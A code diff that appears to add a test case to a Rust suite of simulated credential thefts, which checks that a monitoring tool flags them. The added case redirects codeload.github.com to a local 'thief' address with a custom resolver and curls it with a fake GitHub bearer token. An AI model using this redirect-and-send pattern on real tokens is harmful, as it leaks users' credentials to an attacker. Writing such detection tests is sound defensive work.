@@ -269,6 +269,18 @@ const THEFTS: &[Setup] = &[
         },
     },
     Setup {
+        name: "a token at an address that only the thief's own resolver gives for its home",
+        raised: "unexpected-hop low",
+        run: |lab, unit| {
+            let token = fake("ghp_", 110);
+            let (host, resolver) = ("codeload.github.com", client("own_resolver.py"));
+            let ask = format!("python3 {resolver} {host} 127.0.0.1 127.0.0.78");
+            let script = lab.curl(host, "Authorization: Bearer $GITHUB_TOKEN");
+            unit.sh(&format!("{ask} && {script}"), &[("GITHUB_TOKEN", &token)])?;
+            Ok(token)
+        },
+    },
+    Setup {
         name: "a token at its home, presented by a unit that never picked it up",
         raised: "new-user medium",
         run: |lab, unit| {
